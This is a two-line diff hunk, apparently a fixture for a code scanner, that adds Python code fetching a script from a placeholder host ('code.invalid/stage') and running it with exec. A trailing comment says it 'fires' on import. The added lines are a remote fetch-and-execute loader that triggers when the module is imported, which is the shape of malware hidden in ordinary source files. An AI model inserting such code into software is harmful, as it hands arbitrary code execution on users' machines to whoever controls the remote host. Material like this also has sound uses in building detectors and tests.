@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://code.invalid/stage").text)  # fires: import
